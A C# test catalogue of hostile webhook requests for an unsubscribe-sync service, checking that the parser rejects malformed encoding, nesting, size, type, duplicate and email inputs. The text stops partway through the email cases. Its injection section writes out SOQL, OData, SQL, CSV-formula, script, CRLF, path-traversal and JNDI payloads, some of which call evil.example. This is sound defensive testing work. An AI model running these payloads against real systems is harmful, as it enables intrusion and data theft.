using System.Text;
using Microsoft.Extensions.Primitives;
using UnsubscribeSync.Functions.Configuration;
using UnsubscribeSync.Functions.Intake;

namespace UnsubscribeSync.Tests.Intake;

/// <summary>
/// The named kinds of malformed and hostile webhook requests, by what they attack. Most bodies are a batch of the
/// hostile event (<c>h-1</c>, index 0) and a good one (<c>good-1</c>, index 1), so each case also shows whether the
/// good event survives its neighbour. Expectations follow the README's webhook contract.
/// </summary>
public static class HostileCatalogue
{
    public const string Encoding = "encoding";
    public const string Nesting = "nesting";
    public const string Size = "size";
    public const string Type = "type";
    public const string Duplicate = "duplicate";
    public const string Injection = "injection";
    public const string Email = "email";
    public const string Header = "header";
    public const string Signature = "signature";

    private const string Good = """{"id":"good-1","email":"good@example.com","salesforceId":"0035g00000ABCdf"}""";
    private const string H0 = "unsubscribes[0]";
    private static readonly string SignatureHeader = WebhookSignatureVerifier.HeaderName;

    public static IReadOnlyList<HostileCase> All { get; } =
        [.. Encodings(), .. Nestings(), .. Sizes(), .. Types(), .. Duplicates(), .. Injections(), .. Emails(), .. Headers(), .. Signatures()];

    public static IEnumerable<HostileCase> OfKinds(params string[] kinds) => All.Where(c => kinds.Contains(c.Kind));

    private static IEnumerable<HostileCase> Encodings()
    {
        yield return Case(Encoding, "invalid UTF-8 byte in id", BatchRaw("""{"id":"h-""", 0xFF, "\",\"email\":\"h@example.com\"}"), Rejects(".id"));
        yield return Case(Encoding, "invalid UTF-8 byte in email", BatchRaw("""{"id":"h-1","email":"h""", 0xFF, """@example.com"}"""), Rejects(".email"));
        yield return Case(Encoding, "invalid UTF-8 byte in type", BatchRaw("""{"id":"h-1","email":"h@example.com","type":"unsubscribe""", 0xFF, "\"}"), Warns(".type"));
        yield return Case(Encoding, "invalid UTF-8 byte in salesforceId", BatchRaw("""{"id":"h-1","email":"h@example.com","salesforceId":"0035g00000ABCd""", 0xFF, "\"}"), Warns(".salesforceId"));
        yield return Case(Encoding, "invalid UTF-8 byte in occurredAt", BatchRaw("""{"id":"h-1","email":"h@example.com","occurredAt":"2026-11-28T10:00:00""", 0xFF, "\"}"), Warns(".occurredAt"));
        yield return Case(Encoding, "invalid UTF-8 byte in source", BatchRaw("""{"id":"h-1","email":"h@example.com","source":"link""", 0xFF, "\"}"), Warns(".source"));
        yield return Case(Encoding, "invalid UTF-8 byte in reason", BatchRaw("""{"id":"h-1","email":"h@example.com","reason":"too many""", 0xFF, "\"}"), Warns(".reason"));
        yield return Case(Encoding, "invalid UTF-8 byte in a property name", BatchRaw("""{"id":"h-1","email":"h@example.com",""", "\"", 0xFF, "\":1}"), Ok("h-1", "good-1"));
        yield return Case(Encoding, "invalid UTF-8 byte between tokens", Raw("""{"id":"h-1","email":"h@example.com"}""", 0xFF), Refused(400, "body"));
        yield return Case(Encoding, "overlong encoding of @ in email", BatchRaw("""{"id":"h-1","email":"h""", 0xC1, 0x80, """example.com"}"""), Rejects(".email"));
        yield return Case(Encoding, "overlong encoding of NUL in reason", BatchRaw("""{"id":"h-1","email":"h@example.com","reason":"a""", 0xC0, 0x80, "b\"}"), Warns(".reason"));
        yield return Case(Encoding, "overlong three-byte slash in id", BatchRaw("""{"id":"h""", 0xE0, 0x80, 0xAF, """1","email":"h@example.com"}"""), Rejects(".id"));
        yield return Case(Encoding, "CESU-8 surrogate pair in reason", BatchRaw("""{"id":"h-1","email":"h@example.com","reason":""", "\"", 0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80, "\"}"), Warns(".reason"));
        yield return Case(Encoding, "raw encoded lone surrogate in email", BatchRaw("""{"id":"h-1","email":"h""", 0xED, 0xA0, 0x80, """@example.com"}"""), Rejects(".email"));
        yield return Case(Encoding, "code point above U+10FFFF in reason", BatchRaw("""{"id":"h-1","email":"h@example.com","reason":""", "\"", 0xF4, 0x90, 0x80, 0x80, "\"}"), Warns(".reason"));
        yield return Case(Encoding, "five-byte sequence in reason", BatchRaw("""{"id":"h-1","email":"h@example.com","reason":""", "\"", 0xF8, 0x88, 0x80, 0x80, 0x80, "\"}"), Warns(".reason"));
        yield return Case(Encoding, "multi-byte character cut before the closing quote", BatchRaw("""{"id":"h-1","email":"h@example.com","reason":"caf""", 0xC3, "\"}"), Warns(".reason"));
        yield return Case(Encoding, "multi-byte character cut at the end of the body", Raw("""{"id":"h-1","email":"h@example.com"}""", 0xE2, 0x82), Refused(400, "body"));
        yield return Case(Encoding, "escaped lone high surrogate in reason", Batch("""{"id":"h-1","email":"h@example.com","reason":"cut at \ud83d"}"""), Warns(".reason"));
        yield return Case(Encoding, "escaped lone low surrogate in reason", Batch("""{"id":"h-1","email":"h@example.com","reason":"\ude00 first"}"""), Warns(".reason"));
        yield return Case(Encoding, "escaped surrogate pair reversed in reason", Batch("""{"id":"h-1","email":"h@example.com","reason":"\ude00\ud83d"}"""), Warns(".reason"));
        yield return Case(Encoding, "escaped valid surrogate pair in reason", Batch("""{"id":"h-1","email":"h@example.com","reason":"ok \ud83d\ude00"}"""), Ok("h-1", "good-1"));
        yield return Case(Encoding, "escaped lone surrogate in id", Batch("""{"id":"h-\ud800","email":"h@example.com"}"""), Rejects(".id"));
        yield return Case(Encoding, "escaped lone surrogate in email", Batch("""{"id":"h-1","email":"h\udbff@example.com"}"""), Rejects(".email"));
        yield return Case(Encoding, "escaped lone surrogate in type", Batch("""{"id":"h-1","email":"h@example.com","type":"\udfff"}"""), Warns(".type"));
        yield return Case(Encoding, "escaped lone surrogate in a property name", Batch("""{"id":"h-1","email":"h@example.com","\ud800":1}"""), Ok("h-1", "good-1"));
        yield return Case(Encoding, "raw four-byte emoji in reason", Batch("{\"id\":\"h-1\",\"email\":\"h@example.com\",\"reason\":\"\U0001F600 bye\"}"), Ok("h-1", "good-1"));
        yield return Case(Encoding, "UTF-8 byte order mark", Raw(new byte[] { 0xEF, 0xBB, 0xBF }, BatchText(H(""))), Ok("h-1", "good-1"));
        yield return Case(Encoding, "UTF-8 byte order mark twice", Raw(new byte[] { 0xEF, 0xBB, 0xBF, 0xEF, 0xBB, 0xBF }, BatchText(H(""))), Refused(400, "body"));
        yield return Case(Encoding, "UTF-16 LE body with its byte order mark", [.. System.Text.Encoding.Unicode.GetPreamble(), .. System.Text.Encoding.Unicode.GetBytes(BatchText(H("")))], Refused(400, "body"));
        yield return Case(Encoding, "UTF-16 BE body with its byte order mark", [.. System.Text.Encoding.BigEndianUnicode.GetPreamble(), .. System.Text.Encoding.BigEndianUnicode.GetBytes(BatchText(H("")))], Refused(400, "body"));
        yield return Case(Encoding, "UTF-16 LE body without a byte order mark", System.Text.Encoding.Unicode.GetBytes(BatchText(H(""))), Refused(400, "body"));
        yield return Case(Encoding, "UTF-32 LE body with its byte order mark", [.. System.Text.Encoding.UTF32.GetPreamble(), .. System.Text.Encoding.UTF32.GetBytes(BatchText(H("")))], Refused(400, "body"));
        yield return Case(Encoding, "UTF-32 BE byte order mark before UTF-8", Raw(new byte[] { 0x00, 0x00, 0xFE, 0xFF }, BatchText(H(""))), Refused(400, "body"));
        yield return Case(Encoding, "byte order mark between tokens", Raw("""{"unsubscribes":""", "\uFEFF", $"[{H("")},{Good}]}}"), Refused(400, "body"));
        yield return Case(Encoding, "byte order mark inside the reason", Batch("{\"id\":\"h-1\",\"email\":\"h@example.com\",\"reason\":\"\uFEFFhello\"}"), Ok("h-1", "good-1"));
        yield return Case(Encoding, "NUL bytes between tokens", Raw("""{"unsubscribes":[""", 0x00, 0x00, $"{H("")},{Good}]}}"), Refused(400, "body"));
        yield return Case(Encoding, "raw NUL inside a string", BatchRaw("""{"id":"h-1","email":"h@example.com","reason":"a""", 0x00, "b\"}"), Refused(400, "body"));
        yield return Case(Encoding, "raw tab and newline inside a string", Batch("{\"id\":\"h-1\",\"email\":\"h@example.com\",\"reason\":\"a\tb\nc\"}"), Refused(400, "body"));
        yield return Case(Encoding, "escaped control characters in reason", Batch("""{"id":"h-1","email":"h@example.com","reason":"a\u0000b\u0007c\u001f\u007f"}"""), Ok("h-1", "good-1"));
        yield return Case(Encoding, "escaped NUL in email", Batch("""{"id":"h-1","email":"h\u0000@example.com"}"""), Rejects(".email"));
        yield return Case(Encoding, "escaped NUL in id", Batch("""{"id":"h-1\u0000.txt","email":"h@example.com"}"""), Rejects(".id"));
        yield return Case(Encoding, "noncharacters U+FFFE and U+FFFF in reason", Batch("""{"id":"h-1","email":"h@example.com","reason":"\ufffe\uffff"}"""), Ok("h-1", "good-1"));
        yield return Case(Encoding, "noncharacter before the JSON", Raw("\uFFFE", BatchText(H(""))), Refused(400, "body"));
        yield return Case(Encoding, "Latin-1 text in a body labelled UTF-8", BatchRaw("""{"id":"h-1","email":"h@example.com","reason":"caf""", 0xE9, " cr", 0xE8, "me\"}"), Warns(".reason"));
        yield return Case(Encoding, "property names spelled with escapes", Batch("""{"\u0069\u0064":"h-1","\u0065mail":"h@example.com"}"""), Ok("h-1", "good-1"));
        yield return Case(Encoding, "right-to-left override in reason", Batch("{\"id\":\"h-1\",\"email\":\"h@example.com\",\"reason\":\"\u202Egnp.exe\"}"), Ok("h-1", "good-1"));
        yield return Case(Encoding, "body is a string holding a lone surrogate", Raw("\"\\ud800\""), Refused(400, "body"));
    }

    private static IEnumerable<HostileCase> Nestings()
    {
        // The root object, the batch array and the event take three of the parser's 16 levels.
        yield return Case(Nesting, "unknown property nested to the depth limit", Batch($$"""{"id":"h-1","email":"h@example.com","x":{{new string('[', 13)}}{{new string(']', 13)}}}"""), Ok("h-1", "good-1"));
        yield return Case(Nesting, "unknown property nested one past the depth limit", Batch($$"""{"id":"h-1","email":"h@example.com","x":{{new string('[', 14)}}{{new string(']', 14)}}}"""), Refused(400, "body"));
        yield return Case(Nesting, "100,000 nested arrays", Raw(new string('[', 100_000)), Refused(400, "body"));
        yield return Case(Nesting, "50,000 nested objects", Raw(string.Concat(Enumerable.Repeat("{\"a\":", 50_000))), Refused(400, "body"));
        yield return Case(Nesting, "deep objects in a single-event body", Raw($$"""{"id":"h-1","email":"h@example.com","x":{{string.Concat(Enumerable.Repeat("{\"y\":", 20))}}1{{new string('}', 20)}}}"""), Refused(400, "body"));
        yield return Case(Nesting, "a batch nested inside an event", Batch($$"""{"id":"h-1","email":"h@example.com","unsubscribes":[{"id":"n-1","email":"n@example.com"}]}"""), Ok("h-1", "good-1"));
        yield return Case(Nesting, "events wrapped in an inner array", Raw($$"""{"unsubscribes":[[{{H("")}}],{{Good}}]}"""), Rejects(""));
        yield return Case(Nesting, "event wrapped in an envelope object", Batch($$"""{"event":{{H("")}}}"""), Rejects(".id"));
        yield return Case(Nesting, "id given as an object holding an id", Batch("""{"id":{"id":"h-1"},"email":"h@example.com"}"""), Rejects(".id"));
        yield return Case(Nesting, "unclosed brackets", Raw("""{"unsubscribes":[[[{"""), Refused(400, "body"));
        yield return Case(Nesting, "mismatched brackets", Raw("""{"unsubscribes":[{"id":"h-1","email":"h@example.com"]}"""), Refused(400, "body"));
    }

    private static IEnumerable<HostileCase> Sizes()
    {
        var atLimit = BatchText(H(""));
        var max = Enumerable.Range(0, WebhookOptions.MaxEventsPerRequest).Select(i => $"max-{i}").ToArray();
        yield return Case(Size, "empty body", [], Refused(400, "body"));
        yield return Case(Size, "whitespace-only body", Raw(" \r\n\t "), Refused(400, "body"));
        yield return Case(Size, "byte order mark only", [0xEF, 0xBB, 0xBF], Refused(400, "body"));
        yield return Case(Size, "empty object", Raw("{}"), Refused(400, "id"));
        yield return Case(Size, "body of exactly the size limit", Raw(atLimit.PadRight(WebhookOptions.MaxBodyBytes)), Ok("h-1", "good-1"));
        yield return Case(Size, "body one byte over the size limit", Raw(atLimit.PadRight(WebhookOptions.MaxBodyBytes + 1)), Refused(413, "body"));
        yield return Case(Size, "5 MB body without Content-Length", new HostileRequest(Raw(atLimit.PadRight(5_000_000))) { ContentLength = _ => null }, Refused(413, "body"));
        yield return Case(Size, "Content-Length of 10 GB on a small body", new HostileRequest(Batch(H(""))) { ContentLength = _ => 10_000_000_000 }, Refused(413, "body"));
        yield return Case(Size, "Content-Length under a body over the limit", new HostileRequest(Raw(atLimit.PadRight(1_000_000))) { ContentLength = _ => 100 }, Refused(413, "body"));
        yield return Case(Size, "Content-Length of zero on a valid body", new HostileRequest(Batch(H(""))) { ContentLength = _ => 0 }, Ok("h-1", "good-1"));
        // 100 recorded events cost seconds on a loaded Azurite (ReceiveUnsubscribesIntegrationTests records them): 99 are rejected here.
        yield return Case(Size, "the most events one request may carry", Raw(Events(max.Select((id, i) => i == 0 ? H("") : $$"""{"id":"{{id}}","email":"max{{i}}"}"""))), new Expect(202) { Accepted = ["h-1"], Duplicates = [], Names = "unsubscribes[99].email" });
        yield return Case(Size, "one event more than the limit", Raw(Events(Enumerable.Range(0, WebhookOptions.MaxEventsPerRequest + 1).Select(i => $$"""{"id":"o-{{i}}","email":"o{{i}}@example.com"}"""))), Refused(400, "unsubscribes"));
        yield return Case(Size, "10,000 empty events", Raw(Events(Enumerable.Repeat("{}", 10_000))), Refused(400, "unsubscribes"));
        yield return Case(Size, "empty batch", Raw("""{"unsubscribes":[]}"""), Refused(400, "unsubscribes"));
        yield return Case(Size, "event with 1,000 unknown properties", Batch($$"""{"id":"h-1","email":"h@example.com",{{string.Join(',', Enumerable.Range(0, 1000).Select(i => $"\"p{i}\":{i}"))}}}"""), Ok("h-1", "good-1"));
        yield return Case(Size, "property name of 100,000 characters", Batch($$"""{"id":"h-1","email":"h@example.com","{{new string('n', 100_000)}}":1}"""), Ok("h-1", "good-1"));
        yield return Case(Size, "number of 100,000 digits", Batch($$"""{"id":"h-1","email":"h@example.com","x":{{new string('9', 100_000)}}}"""), Ok("h-1", "good-1"));
        yield return Case(Size, "reason of 20,000 emoji", Batch($$"""{"id":"h-1","email":"h@example.com","reason":"{{string.Concat(Enumerable.Repeat("\ud83d\ude00", 20_000))}}"}"""), Warns(".reason"));
        yield return Case(Size, "reason of exactly 1,000 characters", Batch($$"""{"id":"h-1","email":"h@example.com","reason":"{{new string('r', EventParser.MaxReasonLength)}}"}"""), Ok("h-1", "good-1"));
        yield return Case(Size, "reason of 1,001 characters", Batch($$"""{"id":"h-1","email":"h@example.com","reason":"{{new string('r', EventParser.MaxReasonLength + 1)}}"}"""), Warns(".reason"));
        yield return Case(Size, "reason clipped inside an emoji", Batch($$"""{"id":"h-1","email":"h@example.com","reason":"{{new string('r', EventParser.MaxReasonLength - 1)}}\ud83d\ude00"}"""), Warns(".reason"));
        yield return Case(Size, "id of 128 characters", Batch($$"""{"id":"{{new string('i', EventParser.MaxIdLength)}}","email":"h@example.com"}"""), Ok(new string('i', EventParser.MaxIdLength), "good-1"));
        yield return Case(Size, "id of 129 characters", Batch($$"""{"id":"{{new string('i', EventParser.MaxIdLength + 1)}}","email":"h@example.com"}"""), Rejects(".id"));
        yield return Case(Size, "id and email of 50,000 characters", Batch($$"""{"id":"{{new string('i', 50_000)}}","email":"{{new string('e', 50_000)}}@example.com"}"""), Rejects(".email"));
        yield return Case(Size, "email of 254 characters", Batch($$"""{"id":"h-1","email":"{{LongEmail(254)}}"}"""), Ok("h-1", "good-1"));
        yield return Case(Size, "email of 255 characters", Batch($$"""{"id":"h-1","email":"{{LongEmail(255)}}"}"""), Rejects(".email"));
        yield return Case(Size, "local part of 65 characters", Batch($$"""{"id":"h-1","email":"{{new string('l', 65)}}@example.com"}"""), Rejects(".email"));
        yield return Case(Size, "domain label of 64 characters", Batch($$"""{"id":"h-1","email":"h@{{new string('d', 64)}}.com"}"""), Rejects(".email"));
    }

    private static IEnumerable<HostileCase> Types()
    {
        yield return Case(Type, "id is a number", Batch("""{"id":42,"email":"h@example.com"}"""), Rejects(".id"));
        yield return Case(Type, "id is a boolean", Batch("""{"id":true,"email":"h@example.com"}"""), Rejects(".id"));
        yield return Case(Type, "id is null", Batch("""{"id":null,"email":"h@example.com"}"""), Rejects(".id"));
        yield return Case(Type, "id is an array", Batch("""{"id":["h-1"],"email":"h@example.com"}"""), Rejects(".id"));
        yield return Case(Type, "id is empty", Batch("""{"id":"","email":"h@example.com"}"""), Rejects(".id"));
        yield return Case(Type, "id is whitespace", Batch("""{"id":"   ","email":"h@example.com"}"""), Rejects(".id"));
        yield return Case(Type, "email is a number", Batch("""{"id":"h-1","email":12345}"""), Rejects(".email"));
        yield return Case(Type, "email is an object", Batch("""{"id":"h-1","email":{"address":"h@example.com"}}"""), Rejects(".email"));
        yield return Case(Type, "email is an array of addresses", Batch("""{"id":"h-1","email":["h@example.com","i@example.com"]}"""), Rejects(".email"));
        yield return Case(Type, "wrong types in every optional field", Batch("""{"id":"h-1","email":"h@example.com","type":true,"salesforceId":0,"source":[],"occurredAt":{},"reason":{}}"""), Warns(".source"));
        yield return Case(Type, "type is unknown", Batch(H("\"type\":\"delete\"")), Warns(".type"));
        yield return Case(Type, "type in capitals with spaces", Batch(H("\"type\":\"  UNSUBSCRIBE \"")), Ok("h-1", "good-1"));
        yield return Case(Type, "resubscribe without occurredAt or reason", Batch(H("\"type\":\"resubscribe\"")), Rejects(".occurredAt"));
        yield return Case(Type, "resubscribe with a blank reason", Batch(H("\"type\":\"resubscribe\",\"occurredAt\":\"2026-11-28T10:00:00Z\",\"reason\":\"  \"")), Rejects(".reason"));
        yield return Case(Type, "resubscribe with everything it needs", Batch(H("\"type\":\"resubscribe\",\"occurredAt\":\"2026-11-28T10:00:00Z\",\"reason\":\"asked by phone\"")), Ok("h-1", "good-1"));
        yield return Case(Type, "salesforceId with a wrong checksum", Batch("""{"id":"h-1","email":"h@example.com","salesforceId":"0035g00000ABCdeZZZ"}"""), Warns(".salesforceId"));
        yield return Case(Type, "salesforceId of an Opportunity", Batch("""{"id":"h-1","email":"h@example.com","salesforceId":"0065g00000ABCde"}"""), Warns(".salesforceId"));
        yield return Case(Type, "salesforceId of a Person Account", Batch("""{"id":"h-1","email":"h@example.com","salesforceId":"0015g00000ABCde"}"""), Ok("h-1", "good-1"));
        yield return Case(Type, "salesforceId lower-cased by a spreadsheet", Batch("""{"id":"h-1","email":"h@example.com","salesforceId":"0035g00000abcdeaah"}"""), Ok("h-1", "good-1"));
        yield return Case(Type, "salesforceId of a Lead", Batch("""{"id":"h-1","email":"h@example.com","salesforceId":"00Q5g00000ABCde"}"""), Ok("h-1", "good-1"));
        yield return Case(Type, "occurredAt as Unix seconds", Batch("""{"id":"h-1","email":"h@example.com","occurredAt":1764324000}"""), Warns(".occurredAt"));
        yield return Case(Type, "occurredAt without an offset", Batch("""{"id":"h-1","email":"h@example.com","occurredAt":"2026-11-28T10:00:00"}"""), Warns(".occurredAt"));
        yield return Case(Type, "occurredAt far in the future", Batch("""{"id":"h-1","email":"h@example.com","occurredAt":"9999-12-31T23:59:59Z"}"""), Warns(".occurredAt"));
        yield return Case(Type, "occurredAt of DateTime.MinValue", Batch("""{"id":"h-1","email":"h@example.com","occurredAt":"0001-01-01T00:00:00Z"}"""), Warns(".occurredAt"));
        yield return Case(Type, "occurredAt before 1601 through its offset", Batch("""{"id":"h-1","email":"h@example.com","occurredAt":"1601-01-01T00:00:00+00:01"}"""), Warns(".occurredAt"));
        yield return Case(Type, "occurredAt of the Unix epoch", Batch("""{"id":"h-1","email":"h@example.com","occurredAt":"1970-01-01T00:00:00Z"}"""), Warns(".occurredAt"));
        yield return Case(Type, "occurredAt of a day that does not exist", Batch("""{"id":"h-1","email":"h@example.com","occurredAt":"2026-02-30T10:00:00Z"}"""), Warns(".occurredAt"));
        yield return Case(Type, "occurredAt with an offset out of range", Batch("""{"id":"h-1","email":"h@example.com","occurredAt":"2026-11-28T10:00:00+99:00"}"""), Warns(".occurredAt"));
        yield return Case(Type, "source in capitals", Batch(H("\"source\":\"LINK\"")), Ok("h-1", "good-1"));
        yield return Case(Type, "unsubscribes is null", Raw("""{"unsubscribes":null}"""), Refused(400, "unsubscribes"));
        yield return Case(Type, "unsubscribes is an object", Raw($$"""{"unsubscribes":{{H("")}}}"""), Refused(400, "unsubscribes"));
        yield return Case(Type, "unsubscribes is a string", Raw("""{"unsubscribes":"h@example.com"}"""), Refused(400, "unsubscribes"));
        yield return Case(Type, "body is an array of events", Raw($"[{H("")},{Good}]"), Refused(400, "body"));
        yield return Case(Type, "body is a number", Raw("42"), Refused(400, "body"));
        yield return Case(Type, "body is null", Raw("null"), Refused(400, "body"));
        yield return Case(Type, "body is true", Raw("true"), Refused(400, "body"));
        yield return Case(Type, "event is a string", Batch("\"h@example.com\""), Rejects(""));
        yield return Case(Type, "event is null", Batch("null"), Rejects(""));
        yield return Case(Type, "id of 1e999", Batch("""{"id":1e999,"email":"h@example.com"}"""), Rejects(".id"));
        yield return Case(Type, "negative zero and 1e-999999 in optional fields", Batch("""{"id":"h-1","email":"h@example.com","salesforceId":-0,"reason":-1e-999999}"""), Warns(".reason"));
        yield return Case(Type, "NaN literal", Batch("""{"id":"h-1","email":"h@example.com","x":NaN}"""), Refused(400, "body"));
        yield return Case(Type, "Infinity literal", Batch("""{"id":"h-1","email":"h@example.com","x":-Infinity}"""), Refused(400, "body"));
        yield return Case(Type, "hexadecimal number", Batch("""{"id":"h-1","email":"h@example.com","x":0x1F}"""), Refused(400, "body"));
        yield return Case(Type, "number with a leading zero", Batch("""{"id":"h-1","email":"h@example.com","x":0123}"""), Refused(400, "body"));
        yield return Case(Type, "number with a plus sign", Batch("""{"id":"h-1","email":"h@example.com","x":+1}"""), Refused(400, "body"));
        yield return Case(Type, "trailing comma", Raw("""{"id":"h-1","email":"h@example.com",}"""), Refused(400, "body"));
        yield return Case(Type, "JavaScript comment", Raw("""{"id":"h-1", /* x */ "email":"h@example.com"}"""), Refused(400, "body"));
        yield return Case(Type, "single-quoted strings", Raw("{'id':'h-1','email':'h@example.com'}"), Refused(400, "body"));
        yield return Case(Type, "unquoted property names", Raw("{id:\"h-1\",email:\"h@example.com\"}"), Refused(400, "body"));
    }

    private static IEnumerable<HostileCase> Duplicates()
    {
        var repeated = Batch(H(""));
        yield return Case(Duplicate, "duplicate properties: the last wins", Batch("""{"id":"h-1","id":"h-2","email":"nope","email":"h@example.com","EMAIL":"H2@example.com"}"""), Ok("h-2", "good-1"));
        yield return Case(Duplicate, "id and ID with different values", Batch("""{"id":"h-1","email":"h@example.com","ID":"h-2"}"""), Ok("h-2", "good-1"));
        yield return Case(Duplicate, "two unsubscribes properties: the last wins", Raw("{\"unsubscribes\":[" + Good + "],\"Unsubscribes\":{}}"), Refused(400, "unsubscribes"));
        yield return Case(Duplicate, "the same event twice in one batch", Raw(Events([H(""), H(""), Good])), Ok("h-1", "good-1") with { Duplicates = ["h-1"] });
        yield return Case(Duplicate, "one id for two addresses in one batch", Raw(Events([H(""), """{"id":"h-1","email":"other@example.com"}""", Good])), Ok("h-1", "good-1") with { Duplicates = ["h-1"] });
        yield return Case(Duplicate, "a rejected event and a valid one sharing an id", Raw(Events(["""{"id":"h-1","email":"nope"}""", H(""), Good])), new Expect(202) { Accepted = ["h-1", "good-1"], Names = "unsubscribes[0].email" });
        yield return Case(Duplicate, "100 events with one id", Raw(Events(Enumerable.Repeat(H(""), 100))), new Expect(202) { Accepted = ["h-1"], Duplicates = [.. Enumerable.Repeat("h-1", 99)], Clean = true });
        yield return Case(Duplicate, "two events for one address in one batch", Raw(Events([H(""), """{"id":"h-2","email":"H@Example.com","salesforceId":"00Q5g00000ABCde"}""", Good])), Ok("h-1", "h-2", "good-1"));
        yield return Case(Duplicate, "unsubscribe and resubscribe of one address in one batch", Raw(Events([H(""), """{"id":"h-2","type":"resubscribe","email":"h@example.com","occurredAt":"2026-11-28T11:00:00Z","reason":"asked"}""", Good])), Ok("h-1", "h-2", "good-1"));
        yield return Case(Duplicate, "one Salesforce Id for two addresses", Raw(Events([H(""), """{"id":"h-2","email":"i@example.com","salesforceId":"0035g00000ABCde"}""", Good])), Ok("h-1", "h-2", "good-1"));
        yield return Case(Duplicate, "the same request twice", repeated, new Expect(202) { Accepted = [], Duplicates = ["h-1", "good-1"], Clean = true }) with { Before = [new HostileRequest(repeated)] };
        yield return Case(Duplicate, "a known id with a different body", Batch("""{"id":"h-1","email":"changed@example.com","reason":"second thoughts"}"""), new Expect(202) { Accepted = [], Duplicates = ["h-1", "good-1"], Clean = true }) with { Before = [new HostileRequest(repeated)] };
        yield return Case(Duplicate, "an old request after a newer one for the address", Batch("""{"id":"h-0","email":"h@example.com","occurredAt":"2026-11-28T09:00:00Z"}"""), new Expect(202) { Accepted = ["h-0"], Duplicates = ["good-1"], Clean = true }) with { Before = [new HostileRequest(repeated)] };
    }

    private static IEnumerable<HostileCase> Injections()
    {
        yield return Case(Injection, "SOQL injection in id", Batch("""{"id":"evt' OR Id != '","email":"h@example.com"}"""), Ok("evt' OR Id != '", "good-1"));
        yield return Case(Injection, "SOQL injection in email", Batch("""{"id":"h-1","email":"x'or'1'='1@example.com"}"""), Ok("h-1", "good-1"));
        yield return Case(Injection, "SOQL injection with spaces in email", Batch("""{"id":"h-1","email":"h@example.com' OR Email != '"}"""), Rejects(".email"));
        yield return Case(Injection, "SOQL injection in salesforceId", Batch("""{"id":"h-1","email":"h@example.com","salesforceId":"003' OR Id != '"}"""), Warns(".salesforceId"));
        yield return Case(Injection, "SOQL LIKE wildcards in email", Batch("""{"id":"h-1","email":"%_%@example.com"}"""), Ok("h-1", "good-1"));
        yield return Case(Injection, "OData filter injection in id", Batch("""{"id":"' or PartitionKey ne '","email":"h@example.com"}"""), Ok("' or PartitionKey ne '", "good-1"));
        yield return Case(Injection, "OData filter injection in email", Batch("""{"id":"h-1","email":"'or'PartitionKey'ne'@example.com"}"""), Ok("h-1", "good-1"));
        yield return Case(Injection, "OData filter injection in source", Batch(H("\"source\":\"link' or RowKey ne '\"")), Warns(".source"));
        yield return Case(Injection, "CSV formula in reason", Batch(H("\"reason\":\"=HYPERLINK(\\\"http://evil.example\\\",\\\"x\\\")\"")), Ok("h-1", "good-1"));
        yield return Case(Injection, "CSV formula as id", Batch("""{"id":"=1+1","email":"h@example.com"}"""), Ok("=1+1", "good-1"));
        yield return Case(Injection, "CSV formula in email", Batch("""{"id":"h-1","email":"=1+1@example.com"}"""), Ok("h-1", "good-1"));
        yield return Case(Injection, "CSV command as id", Batch("""{"id":"@SUM(1+9)*cmd|' /C calc'!A0","email":"h@example.com"}"""), Ok("@SUM(1+9)*cmd|' /C calc'!A0", "good-1"));
        yield return Case(Injection, "script in reason", Batch(H("\"reason\":\"<script>alert(1)</script>\"")), Ok("h-1", "good-1"));
        yield return Case(Injection, "script as id", Batch("""{"id":"<script>alert(1)</script>","email":"h@example.com"}"""), Ok("<script>alert(1)</script>", "good-1"));
        yield return Case(Injection, "script in email", Batch("""{"id":"h-1","email":"<script>@example.com"}"""), Rejects(".email"));
        yield return Case(Injection, "CRLF header injection in id", Batch("""{"id":"h-1\r\nX-Injected: 1","email":"h@example.com"}"""), Rejects(".id"));
        yield return Case(Injection, "CRLF header injection in email", Batch("""{"id":"h-1","email":"h@example.com\r\nBcc: all@example.com"}"""), Rejects(".email"));
        yield return Case(Injection, "CRLF in reason", Batch(H("\"reason\":\"line one\\r\\nX-Injected: 1\"")), Ok("h-1", "good-1"));
        yield return Case(Injection, "path traversal as id", Batch("""{"id":"../../etc/passwd","email":"h@example.com"}"""), Ok("../../etc/passwd", "good-1"));
        yield return Case(Injection, "Windows path traversal as id", Batch("""{"id":"..\\..\\windows\\win.ini","email":"h@example.com"}"""), Ok("..\\..\\windows\\win.ini", "good-1"));
        yield return Case(Injection, "path traversal in salesforceId", Batch("""{"id":"h-1","email":"h@example.com","salesforceId":"../../services"}"""), Warns(".salesforceId"));
        yield return Case(Injection, "table key characters as id", Batch("""{"id":"a/b\\c#d?e","email":"h@example.com"}"""), Ok("a/b\\c#d?e", "good-1"));
        yield return Case(Injection, "SQL injection as id", Batch("""{"id":"'; DROP TABLE Ledger;--","email":"h@example.com"}"""), Ok("'; DROP TABLE Ledger;--", "good-1"));
        yield return Case(Injection, "JNDI lookup in reason and id", Batch("""{"id":"${jndi:ldap://evil.example/a}","email":"h@example.com","reason":"${jndi:ldap://evil.example/a}"}"""), Ok("${jndi:ldap://evil.example/a}", "good-1"));
        yield return Case(Injection, "template expression in source", Batch(H("\"source\":\"{{7*7}}\"")), Warns(".source"));
        yield return Case(Injection, "JSON fragment inside the reason", Batch(H("\"reason\":\"\\\"},{\\\"id\\\":\\\"injected\\\",\\\"email\\\":\\\"i@example.com\\\"}\"")), Ok("h-1", "good-1"));
    }

    private static IEnumerable<HostileCase> Emails()
    {
        yield return Case(Email, "Cyrillic homoglyph in the local part", Batch("{\"id\":\"h-1\",\"email\":\"p\u0430ypal@example.com\"}"), Ok("h-1", "good-1"));
        yield return Case(Email, "Cyrillic homoglyph in the domain", Batch("{\"id\":\"h-1\",\"email\":\"h@ex\u0430mple.com\"}"), Ok("h-1", "good-1"));
        yield return Case(Email, "internationalized domain", Batch("{\"id\":\"h-1\",\"email\":\"j\u00fcrgen@b\u00fccher.de\"}"), Ok("h-1", "good-1"));
        yield return Case(Email, "punycode domain", Batch("""{"id":"h-1","email":"h@xn--bcher-kva.de"}"""), Ok("h-1", "good-1"));
        yield return Case(Email, "fullwidth at sign", Batch("{\"id\":\"h-1\",\"email\":\"h\uFF20example.com\"}"), Rejects(".email"));
        yield return Case(Email, "zero-width space in the local part", Batch("{\"id\":\"h-1\",\"email\":\"h\u200B@example.com\"}"), Ok("h-1", "good-1"));
        yield return Case(Email, "plus tag", Batch("""{"id":"h-1","email":"jane.doe+news@example.com"}"""), Ok("h-1", "good-1"));
        yield return Case(Email, "quoted local part with a space", Batch("""{"id":"h-1","email":"\"jane doe\"@example.com"}"""), Rejects(".email"));
